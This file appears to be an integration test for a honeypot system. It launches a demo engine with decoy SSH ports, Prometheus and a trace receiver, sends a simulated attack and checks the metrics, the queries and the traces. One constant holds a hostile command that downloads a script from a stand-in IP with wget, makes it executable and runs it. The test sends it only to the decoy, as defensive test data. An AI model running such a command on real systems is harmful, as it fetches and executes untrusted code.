import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { z } from 'zod';
import { attack, freePort, root, run, until, untilOnApi } from './support.ts';
import { type ReceivedSpan, receiveTraces } from './trace-receiver.ts';

const words = 'cd /tmp; wget http://203.0.113.9/metrics.sh; chmod +x metrics.sh; ./metrics.sh';
const GrafanaFile = z.object({
  panels: z.array(z.object({ title: z.string(), targets: z.array(z.object({ expr: z.string() })).default([]) })),
});
const Answer = z.object({
  data: z.object({ result: z.array(z.object({ value: z.tuple([z.number(), z.string()]) })) }),
});

/**
 * Claim: of a demo that is attacked, Prometheus's own linter finds nothing wrong in /metrics, a real Prometheus has an answer to every query
 * of the Grafana file, and one trace leads from lines to what a decision had done. Needs Debian's `prometheus` (with `promtool`) and `ssh`.
 */
export async function proveMetrics(): Promise<object> {
  const folder = mkdtempSync(join(tmpdir(), 'cerberus-metrics-'));
  const traces = await receiveTraces();
  const [page, prometheusPort] = [await freePort(), await freePort()];
  const children: ChildProcess[] = [];
  try {
    const engine = startEngine(folder, page, traces.url);
    children.push(engine.child);
    const url = `http://127.0.0.1:${page}`;
    const token = await until('"is up"', 120, () =>
      /is up:/.test(engine.said()) ? tokenOf(engine.said()) : undefined,
    );
    const ssh = await until('the decoy', 60, () => Number(/ssh -p (\d+)/.exec(engine.said())?.[1]) || undefined);
    children.push(startPrometheus(folder, page, prometheusPort, token));
    await until('a first scrape', 60, async () =>
      (await ask(prometheusPort, 'up == 1')).length > 0 ? true : undefined,
    );

    await attack({ port: ssh, command: words });
    await untilOnApi(url, token, 'metrics.sh', 60);
    const carriedOut = await until('a trace from lines to action', 90, () => wholeTrace(traces.spans()));
    const silent = await silentQueries(prometheusPort);
    if (silent.length > 0) throw new Error(`Prometheus has no answer to: ${silent.join(' · ')}`);
    const text = await (await fetch(`${url}/metrics`, { headers: { authorization: `Bearer ${token}` } })).text();
    run('promtool', ['check', 'metrics'], { input: text, stdio: ['pipe', 'inherit', 'inherit'] });
    return { metricsLinted: true, queriesAnswered: queries().length, trace: carriedOut };
  } finally {
    for (const child of children.reverse()) await end(child);
    await traces.close();
    rmSync(folder, { recursive: true, force: true });
  }
}

function startEngine(folder: string, page: number, otlpUrl: string): { child: ChildProcess; said: () => string } {
  const decoyPorts = { CERBERUS_DECOY_SSH_PORT: '0', CERBERUS_DECOY_TELNET_PORT: '0', CERBERUS_DECOY_HTTP_PORT: '0' };
  const child = spawn(process.execPath, [join(root, 'engine', 'bin', 'cerberus.mjs'), 'up', '--demo'], {
    env: {
      ...{ PATH: '/usr/bin:/bin', CERBERUS_DATA_DIR: join(folder, 'state'), PORT: `${page}`, ...decoyPorts },
      CERBERUS_OTLP_URL: otlpUrl,
    },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  let said = '';
  child.stdout.on('data', (chunk: Buffer) => {
    said += chunk.toString('utf8');
  });
  return { child, said: () => said };
}

function tokenOf(said: string): string | undefined {
  return /(cm_\S+)/.exec(said)?.[1];
}

function startPrometheus(folder: string, page: number, port: number, token: string): ChildProcess {
  const config = join(folder, 'prometheus.yml');
  writeFileSync(
    config,
    `scrape_configs:
  - job_name: cerberus
    scrape_interval: 1s
    authorization: { credentials: ${token} }
    static_configs: [{ targets: ['127.0.0.1:${page}'] }]
`,
  );
  run('promtool', ['check', 'config', config], { stdio: ['ignore', 'pipe', 'inherit'] });
  const where = [`--storage.tsdb.path=${join(folder, 'prometheus')}`, `--web.listen-address=127.0.0.1:${port}`];
  return spawn('prometheus', [`--config.file=${config}`, '--log.level=error', ...where], { stdio: 'ignore' });
}

/** Those of the Grafana file that have no answer, or one that is no number, within half a minute. */
async function silentQueries(port: number): Promise<readonly string[]> {
  let silent = queries();
  await until('an answer to each query', 30, async () => {
    const answered = await Promise.all(silent.map(async (query) => (await ask(port, query)).some(isNumber)));
    silent = silent.filter((_query, at) => !answered[at]);
    return silent.length === 0 ? true : undefined;
  }).catch(() => undefined);
  return silent;
}

function queries(): readonly string[] {
  const file = readFileSync(join(root, 'deploy', 'grafana', 'cerberusmesh.json'), 'utf8');
  return GrafanaFile.parse(JSON.parse(file)).panels.flatMap(({ targets }) => targets.map(({ expr }) => expr));
}

async function ask(port: number, query: string): Promise<readonly string[]> {
  const answer = await fetch(`http://127.0.0.1:${port}/api/v1/query?${new URLSearchParams({ query })}`);
  return Answer.parse(await answer.json()).data.result.map(({ value: [, value] }) => value);
}

function isNumber(value: string): boolean {
  return !Number.isNaN(Number(value));
}

/** The names of a trace that holds what was done for a decision, in the order of their beginnings. */
function wholeTrace(spans: readonly ReceivedSpan[]): readonly string[] | undefined {
  const traceId = spans.find(({ name }) => name === 'act')?.traceId;
  const names = spans.filter((span) => span.traceId === traceId).map(({ name }) => name);
  return ['lines', 'assess', 'decide', 'store', 'act'].every((name) => names.includes(name)) ? names : undefined;
}

async function end(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null) return;
  child.kill('SIGTERM');
  await once(child, 'close');
}
